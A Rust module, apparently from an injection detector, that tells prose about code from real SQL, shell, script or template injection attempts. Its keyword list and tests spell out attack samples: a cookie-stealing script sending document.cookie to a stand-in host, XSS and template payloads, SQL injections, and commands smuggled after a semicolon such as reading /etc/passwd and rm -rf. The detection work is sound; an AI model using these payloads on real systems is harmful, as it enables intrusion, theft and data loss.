//! Texts in which people speak about code: a ticket quotes a query, a comment shows markup. Code in the middle of sentences is
//! what somebody writes about; it is an attempt where it is built to break out, or where the answer has its effect.

use super::AttemptKind;

/// Words in a row from which on they are a sentence.
const SENTENCE: usize = 4;
/// Words in front of the mark that ends an argument, from which on they are a command line of their own: what breaks out of an
/// argument stands right behind it.
const COMMAND_LINE: usize = 4;
/// Bytes beyond ASCII in one word that make it as good as a sentence: not every script parts its words.
const WRITTEN: usize = 12;
/// Words that are SQL's or a shell's as well, and end a row of words.
const CODE: &[&[u8]] = &[
    b"select",
    b"from",
    b"case",
    b"when",
    b"then",
    b"else",
    b"where",
    b"union",
    b"order",
    b"group",
    b"by",
    b"having",
    b"limit",
    b"values",
    b"insert",
    b"into",
    b"update",
    b"set",
    b"delete",
    b"drop",
    b"table",
    b"database",
    b"exec",
    b"null",
    b"like",
    b"join",
    b"sleep",
    b"waitfor",
    b"delay",
    b"cat",
    b"echo",
    b"curl",
    b"wget",
    b"rm",
    b"ls",
    b"ping",
    b"sh",
    b"bash",
];

/// Whether a text of this kind speaks about code rather than being some.
pub(super) fn is_about(kind: AttemptKind, text: &[u8]) -> bool {
    match kind {
        // Lines of a head and operators of a query stand in no sentence.
        AttemptKind::Line | AttemptKind::NoSql => false,
        // The rest of a statement is made a comment: that is written for a statement around it.
        AttemptKind::Sql => !cuts_off(text) && has_sentence(text),
        AttemptKind::Command => has_sentence(text) || is_command_line(text),
        _ => has_sentence(text),
    }
}

fn cuts_off(text: &[u8]) -> bool {
    let text = text.trim_ascii_end();
    [&b"--"[..], b"--+", b"-- -", b"#", b"/*", b"--;"].iter().any(|end| text.ends_with(end))
}

fn has_sentence(text: &[u8]) -> bool {
    let (mut row, mut listed) = (0, false);
    text.split(u8::is_ascii_whitespace).filter(|token| !token.is_empty()).any(|token| {
        if token.iter().filter(|byte| !byte.is_ascii()).count() >= WRITTEN {
            return true;
        }
        let in_list = token.ends_with(b",");
        // Of names that commas part, two in a row are a list and no sentence.
        row = if is_word(token) && !(listed && in_list) { row + 1 } else { 0 };
        listed = in_list;
        row >= SENTENCE
    })
}

/// Letters, with what stands around and within words.
fn is_word(token: &[u8]) -> bool {
    let is_letter = |byte: &u8| byte.is_ascii_alphabetic() || !byte.is_ascii();
    let end = token
        .iter()
        .rposition(|byte| !matches!(byte, b'?' | b'!' | b',' | b'.' | b':'))
        .map_or(0, |at| at + 1);
    let inner = token.get(..end).unwrap_or_default();
    inner.first().is_some_and(is_letter)
        && inner.iter().all(|byte| is_letter(byte) || matches!(byte, b'\'' | b'-'))
        && !CODE.contains(&inner)
}

/// Whether a whole command line stands in front of the first mark that would end an argument.
fn is_command_line(text: &[u8]) -> bool {
    let end = text.iter().position(|byte| matches!(byte, b';' | b'|' | b'&' | b'`' | b'\n'));
    let before = end.and_then(|end| text.get(..end)).unwrap_or_default();
    before.split(u8::is_ascii_whitespace).filter(|token| !token.is_empty()).count() >= COMMAND_LINE
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_are_told_from_code() {
        for text in [
            "why does <script>alert(1)</script> show up in my page?",
            "<img src=x onerror=alert(1)> came with the mail of yesterday",
            "{{7*7}} is what our template shows",
            "пожалуйста{{7*7}}",
        ] {
            assert!(is_about(AttemptKind::Template, text.as_bytes()), "{text}");
        }
        for text in [
            "<script>document.location='//x.test/?c='+document.cookie</script>",
            "jane <img src=x onerror=alert(1)>",
            "{{config.items()}}",
        ] {
            assert!(!is_about(AttemptKind::Script, text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn what_cuts_a_statement_off_is_an_attack_behind_any_sentence() {
        let sentence = "many thanks for all of this";
        assert!(is_about(AttemptKind::Sql, format!("{sentence} union select 1,2 from x").as_bytes()));
        assert!(!is_about(AttemptKind::Sql, format!("{sentence}' or 1=1--").as_bytes()));
        let query = b"1 union select name, mail, phone, street, city from users where role like 5";
        assert!(!is_about(AttemptKind::Sql, query));
    }

    #[test]
    fn a_pasted_command_line_is_told_from_an_argument_that_ends() {
        assert!(is_about(AttemptKind::Command, b"tar -xf /tmp/a.tar -c /srv; rm -rf /tmp/a.tar"));
        assert!(!is_about(AttemptKind::Command, b"report.pdf; rm -rf /tmp/a.tar"));
        assert!(!is_about(AttemptKind::Command, b"jane doe; cat /etc/passwd"));
    }
}
